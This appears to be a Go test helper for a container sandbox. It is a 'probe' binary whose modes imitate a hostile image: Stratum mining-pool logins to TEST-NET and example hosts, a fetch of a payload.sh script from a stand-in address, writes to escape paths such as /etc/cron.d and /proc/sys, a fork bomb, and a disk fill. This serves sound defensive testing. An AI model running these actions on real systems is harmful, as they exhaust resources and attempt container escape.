// Command probe is the sandbox tests' inert stand-in: each mode tries one
// thing a hostile image would (talk stratum to a TEST-NET pool, write
// outside its root, fork-bomb, fill the disk, outlive the time limit) and
// prints what happened. It mines nothing.
package main

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"time"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Println("usage: probe MODE")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "benign":
		fmt.Println("hello from a benign image")
	case "serve":
		http.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "ok") })
		http.ListenAndServe("127.0.0.1:8080", nil)
	case "get":
		resp, err := http.Get(os.Args[2])
		if err != nil {
			fmt.Println("get:", err)
			os.Exit(1)
		}
		fmt.Println("get:", resp.Status)
	case "stratum":
		stratum()
	case "escape":
		escape()
	case "forkbomb":
		forkbomb()
	case "fill":
		fill()
	case "sleep":
		for {
			time.Sleep(time.Second)
		}
	}
}

// stratum logs in to a pool at a TEST-NET address the way XMRig does, then
// to a pool by name with Stratum V1, then fetches a URL.
func stratum() {
	login(net.JoinHostPort("203.0.113.7", "3333"), `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4TESTWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx","pass":"x","agent":"probe/1.0","algo":["rx/0"]}}`)
	login(net.JoinHostPort("pool.example.com", "4444"), `{"id":1,"method":"mining.subscribe","params":["probe/1.0"]}`, `{"id":2,"method":"mining.authorize","params":["probe.worker","x"]}`)
	if resp, err := http.Get("http://198.51.100.9/payload.sh"); err == nil {
		fmt.Println("http:", resp.Status)
	} else {
		fmt.Println("http:", err)
	}
}

// login sends each message as a Stratum client does, waiting for the
// pool's answer before the next (subscribe, then authorize).
func login(addr string, msgs ...string) {
	c, err := net.DialTimeout("tcp", addr, 3*time.Second)
	if err != nil {
		fmt.Println("dial", addr, err)
		return
	}
	defer c.Close()
	br := bufio.NewReader(c)
	for _, msg := range msgs {
		fmt.Fprintf(c, "%s\n", msg)
		c.SetReadDeadline(time.Now().Add(3 * time.Second))
		line, err := br.ReadString('\n')
		fmt.Printf("pool %s said %q %v\n", addr, strings.TrimSpace(line), err)
	}
}

// escape tries to write where a contained process must not.
func escape() {
	for _, p := range []string{"/host-escape-marker", "../../../../../../tmp/strata-escape-marker", "/proc/sys/vm/nr_hugepages", "/sys/kernel/strata-escape-marker", "/etc/cron.d/probe", "/tmp/inside"} {
		err := os.WriteFile(p, []byte("1280\n"), 0o644)
		fmt.Printf("write %s: %v\n", p, err)
	}
	err := os.Symlink("/", "/tmp/rootlink")
	fmt.Println("symlink:", err)
}

// forkbomb starts copies of itself that start copies of themselves.
func forkbomb() {
	fails := 0
	for i := 0; i < 400; i++ {
		cmd := exec.Command("/proc/self/exe", "forkbomb")
		if err := cmd.Start(); err != nil {
			fails++
			time.Sleep(10 * time.Millisecond)
			continue
		}
	}
	fmt.Println("forks refused:", fails)
	time.Sleep(time.Hour)
}

// fill writes until the disk says no.
func fill() {
	f, err := os.Create("/tmp/fill")
	if err != nil {
		fmt.Println("create:", err)
		return
	}
	buf := make([]byte, 1<<20)
	n := 0
	for {
		if _, err := f.Write(buf); err != nil {
			fmt.Printf("wrote %d MiB: %v\n", n, err)
			return
		}
		n++
	}
}
